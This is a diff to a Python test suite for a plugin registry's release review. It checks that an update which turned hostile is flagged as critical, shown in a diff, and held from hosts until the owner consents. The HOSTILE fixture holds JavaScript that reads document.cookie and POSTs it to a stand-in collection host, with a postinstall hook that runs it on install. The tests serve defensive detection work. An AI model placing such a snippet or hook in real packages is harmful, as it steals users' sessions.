@@ -19,8 +19,10 @@ CLEAN = """export function Weather({ context }) {
 HOSTILE = (
     CLEAN
     + """
-const session = document.cookie;
-fetch('https://collect.example.net/s', { method: 'POST', body: JSON.stringify({ session }) });
+export function onTheFirstView() {
+  const session = document.cookie;
+  fetch('https://collect.example.net/s', { method: 'POST', body: JSON.stringify({ session }) });
+}
 """
 )
 
@@ -29,15 +31,21 @@ def told(document: dict[str, Any]) -> set[tuple[str, str | None, str]]:
     return {(each["rule"], each["file"], each["message"]) for each in document["findings"]}
 
 
-def test_an_update_that_turned_hostile_is_named_and_never_reaches_a_host(own_world: World, tmp_path: Path):
-    world = own_world
-    clean = write_plugin(tmp_path / "clean", version="1.0.0", added={"dist/index.js": CLEAN})
+def two_releases(folder: Path) -> tuple[Path, Path]:
+    """A clean plugin, and its update that turned hostile."""
+    clean = write_plugin(folder / "clean", version="1.0.0", added={"dist/index.js": CLEAN})
     hostile = write_plugin(
-        tmp_path / "hostile",
+        folder / "hostile",
         version="1.1.0",
         added={"dist/index.js": HOSTILE},
         package={"scripts": {"postinstall": "node dist/index.js"}},
     )
+    return clean, hostile
+
+
+def test_an_update_that_turned_hostile_is_named_and_never_reaches_a_host(own_world: World, tmp_path: Path):
+    world = own_world
+    clean, hostile = two_releases(tmp_path)
     world.publish(clean)
     host = world.host("hanna")
     host.does("plugin", "install", PLUGIN, "--yes")
@@ -51,6 +59,14 @@ def test_an_update_that_turned_hostile_is_named_and_never_reaches_a_host(own_wor
     assert "`collect.example.net`" in turned["message"]
     assert {"data-theft/secret-sent", "release-difference/new-install-script"} <= rules.keys()
 
+    (listed,) = world.rob.asks("review", "list", "--tier", "critical")["submissions"]
+    assert listed["id"] == sent["submissionId"]
+    assert (shown["risk"]["tier"], shown["difference"]["since"]) == ("critical", "1.0.0")
+    before_publishing = json.loads(world.ann.does("plugin", "diff", clean, hostile, "--format", "json").out)
+    assert before_publishing == shown["difference"]
+    lines = world.rob.does("review", "diff", sent["submissionId"], "dist/index.js").out.splitlines()
+    assert "+  const session = document.cookie;" in lines
+
     here = json.loads(world.ann.tries("plugin", "validate", hostile, "--previous", clean, "--json").out)
     assert told(here) == told(shown)
 
@@ -62,3 +78,26 @@ def test_an_update_that_turned_hostile_is_named_and_never_reaches_a_host(own_wor
     assert counted["data-theft/secret-sent"]["confirmed"] == 1
     host.does("plugin", "update")
     assert world.version_of(host, PLUGIN) == "1.0.0"
+
+
+def test_an_update_that_was_approved_in_error_waits_for_the_owner_of_the_host(own_world: World, tmp_path: Path):
+    world = own_world
+    clean, hostile = two_releases(tmp_path)
+    world.publish(clean)
+    host = world.host("hanna")
+    host.does("plugin", "install", PLUGIN, "--yes")
+    world.publish(hostile)  # nobody looked
+
+    (decision,) = host.asks("plugin", "update", "--check")["decisions"]
+    assert (decision["offered"], decision["reason"]) == (None, "needs-consent")
+    grave = {each["what"] for each in decision["difference"]["changes"] if each["gravity"] == "high"}
+    assert grave == {"collect.example.net", "postinstall: node dist/index.js"}
+
+    held = host.tries("plugin", "update")
+    assert (held.exit_code, world.version_of(host, PLUGIN)) == (3, "1.0.0")
+    assert "different since 1.0.0:" in held.err
+    assert "new network host `collect.example.net`" in held.err
+    assert "new reach of the code: `cookies`" in held.err
+
+    host.does("plugin", "update", "--yes")
+    assert world.version_of(host, PLUGIN) == "1.1.0"
